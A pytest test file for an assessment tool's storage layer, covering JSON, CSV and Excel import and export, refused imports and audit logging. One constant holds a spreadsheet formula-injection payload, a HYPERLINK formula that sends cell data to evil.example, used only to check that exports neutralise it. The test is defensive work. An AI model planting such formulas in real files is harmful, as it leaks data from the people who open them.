"""Import and export through the store, on both backends: byte-identical round trips, nothing half-written."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from questionnaire.loader import load_framework
from questionnaire.model import Framework
from scoring.records import City, RecordedAnswer
from storage.errors import ImportRefused
from storage.migrate import upgrade_database
from storage.store import Store
from storage.tables import answers, assessments, audit_events, cities
from storage.transfer import (
    apply_import,
    export_csv,
    export_json,
    export_tables,
    export_xlsx,
    import_answers_csv,
    plan_import,
)
from tests.files import RIVERTON, riverton, signed

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def row_counts(store: Store) -> tuple[int, ...]:
    with store.engine.connect() as conn:
        return tuple(
            conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in (cities, assessments, answers, audit_events)
        )


@pytest.fixture
def filled(store: Store) -> int:
    """A draft with unicode, a hostile note, a link, not applicable and don't know."""
    city = store.create_city(
        City(name="Łódź", country="Polska", region="europe", population_band="500k_1m", challenges=("online-hate",)),
        "Zoë (policy)",
    )
    draft = store.start_assessment(city.id or 0, "Ocena 2026", "Zoë", framework_id="scn-transatlantic")
    draft_id = draft.id or 0
    store.set_targets(draft_id, {"T1": 90.0}, "Zoë")
    store.save_answer(draft_id, RecordedAnswer(question_id="Q1.1", level=2, note=HOSTILE, evidence="published"), "Zoë")
    store.save_answer(
        draft_id,
        RecordedAnswer(
            question_id="Q1.2", level=4, note="-5% budget\nsecond line", links=("https://example.org/report",)
        ),
        "Ben",
    )
    store.save_answer(
        draft_id, RecordedAnswer(question_id="Q7.3", status="not_applicable", reason="NA: regional police"), "Zoë"
    )
    store.save_answer(draft_id, RecordedAnswer(question_id="Q2.1", status="dont_know"), "Zoë")
    return draft_id


def test_export_import_export_is_byte_identical(
    store: Store, filled: int, tmp_path: Path, frameworks: dict[str, Framework]
) -> None:
    exported = export_json(store, filled)
    other = Store.open(_fresh_sqlite(tmp_path), frameworks)
    imported = apply_import(other, plan_import(other, exported), "Importer")
    assert export_json(other, imported.id or 0) == exported
    assert [a.answered_by for a in other.answers(imported.id or 0)] == ["Zoë", "Ben", "Zoë", "Zoë"]


def _fresh_sqlite(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'other.db'}"
    upgrade_database(url)
    return url


def test_importing_the_same_file_twice_is_refused_and_changes_nothing(store: Store) -> None:
    data = RIVERTON.read_bytes()
    first = apply_import(store, plan_import(store, data), "Ana")
    before = row_counts(store)
    with pytest.raises(ImportRefused, match=f"already imported as assessment {first.id}"):
        apply_import(store, plan_import(store, data), "Ana")
    assert row_counts(store) == before


def test_an_import_into_a_store_that_knows_the_city_reuses_it(store: Store) -> None:
    store.create_city(
        City(name="RIVERTON (fictional)", country="fictional", region="europe", population_band="under_100k"), "Ana"
    )
    plan = plan_import(store, RIVERTON.read_bytes())
    assert plan.existing_city is not None
    assert "existing city" in " ".join(plan.describe())
    record = apply_import(store, plan, "Ana")
    assert record.city_id == plan.existing_city.id and len(store.cities()) == 1


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda c: c["answers"][0].update(question_id="Q99.9"), "Q99.9: unknown question id"),
        (lambda c: c["answers"][0].update(level=5), "answers.0.level"),
        (lambda c: c["framework"].update(id="other-framework"), "not installed"),
        (lambda c: c["framework"].update(version="0.9.0"), "no crosswalk from version 0.9.0"),
        (lambda c: c["assessment"]["targets"].update(T99=50), "T99"),
    ],
)
def test_a_refused_import_names_the_problem_and_leaves_the_store_unchanged(store: Store, change, expected) -> None:  # type: ignore[no-untyped-def]
    content = riverton()
    change(content)
    before = row_counts(store)
    with pytest.raises(ImportRefused) as caught:
        apply_import(store, plan_import(store, signed(content)), "Ana")
    assert expected in str(caught.value)
    assert row_counts(store) == before


def test_an_older_framework_version_is_mapped_through_the_crosswalk(store: Store, tmp_path: Path) -> None:
    v1, v2 = (load_framework(FIXTURES / "frameworks" / name) for name in ("mini-v1", "mini-v2"))
    mini = Store(store.engine, {v2.id: v2})
    content = riverton()
    content["framework"] = {"id": v1.id, "version": v1.version}
    content["assessment"]["targets"] = {}
    content["answers"] = [
        {**content["answers"][0], "question_id": "S.1", "level": 3},
        {**content["answers"][0], "question_id": "S.2", "level": 2},
        {**content["answers"][0], "question_id": "P.1", "level": 1},
    ]
    plan = plan_import(mini, signed(content))
    assert [a.question_id for a in plan.answers] == ["S.10", "P.1"]
    assert plan.left_behind == ["S.2"]
    assert "cannot be carried over: S.2" in " ".join(plan.describe())
    record = apply_import(mini, plan, "Ana")
    assert record.framework_version == v2.version
    assert {a.question_id: a.level for a in mini.answers(record.id or 0)} == {"S.10": 3, "P.1": 1}


def test_csv_export_is_utf8_with_bom_and_neutralises_formulas(store: Store, filled: int) -> None:
    data = export_csv(store, filled)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK(" not in text and ",=HYPERLINK(" not in text
    assert ",'-5% budget" in text.replace('"', "")


def test_every_table_exports_to_csv_and_all_of_them_to_one_workbook(store: Store, filled: int) -> None:
    tables = export_tables(store, filled)
    assert list(tables) == [
        "answers",
        "theme_scores",
        "gaps",
        "priorities",
        "workshop_answers",
        "workshop_consensus",
        "actions",
    ]
    assert tables["actions"].empty  # no action yet: the sheet is there, with its columns
    assert tables["workshop_answers"].empty  # no round yet: the sheet is there, with its columns
    assert len(tables["theme_scores"]) == 12
    assert tables["priorities"][["rank", "theme_id"]].values.tolist() == [[1, "T1"]]
    for name in tables:
        assert export_csv(store, filled, name).startswith(b"\xef\xbb\xbf")
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(store, filled)))
    assert book.sheetnames[:4] == ["Answers", "Theme scores", "Gaps", "Priorities"]
    assert [c.value for c in book["Workshop answers"][1]][:4] == ["city", "assessment", "round", "respondent"]
    cells = [c for row in book["Answers"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value == HOSTILE]  # exactly as typed: typed as text, no visible quote
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_an_exported_answers_csv_reads_back_unchanged_and_edits_are_audited(store: Store, filled: int) -> None:
    data = export_csv(store, filled)
    before = store.answers(filled)
    assert import_answers_csv(store, filled, data, "Ana") == 0
    assert store.answers(filled) == before  # the quote before =HYPERLINK came off exactly once

    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].split(",")[:6] == ["city", "assessment", "theme_id", "theme", "question_id", "question"]
    edited = [line.replace(",level,4,", ",level,3,") if ",Q1.2," in line else line for line in lines]
    changed = "\r\n".join(edited).encode("utf-8-sig")
    with pytest.raises(ImportRefused, match="Q1.2"):
        import_answers_csv(store, filled, changed, "Ana")
    assert import_answers_csv(store, filled, changed, "Ana", replace=True) == 1
    assert {a.question_id: a.level for a in store.answers(filled)}["Q1.2"] == 3
    assert store.audit_trail(assessment_id=filled)[-1].action == "answer.import"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"question_id;status;level\r\nQ1.1;level;2\r\n", "';'"),
        (b"question_id,level\r\nQ1.1,2\r\n", "'status'"),
        (b"question_id,status,level\r\nQ1.1,level,7\r\n", "level"),
        (b"question_id,status,level\r\nQ99.1,level,2\r\n", "Q99.1: unknown question id"),
        (b"question_id,status,level\r\nQ1.3,level,2\r\nQ1.4,level,two\r\n", "line 3"),
    ],
)
def test_a_bad_answers_csv_is_refused_whole(store: Store, filled: int, data: bytes, expected: str) -> None:
    before = row_counts(store)
    with pytest.raises(ImportRefused) as caught:
        import_answers_csv(store, filled, data, "Ana")
    assert expected in str(caught.value)
    assert row_counts(store) == before


def test_the_preview_warns_when_the_city_already_has_an_assessment_of_that_title(store: Store, filled: int) -> None:
    data = export_json(store, filled)
    plan = plan_import(store, data)
    assert plan.same_title == [filled]
    assert f"already has an assessment with this title ({filled})" in " ".join(plan.describe())
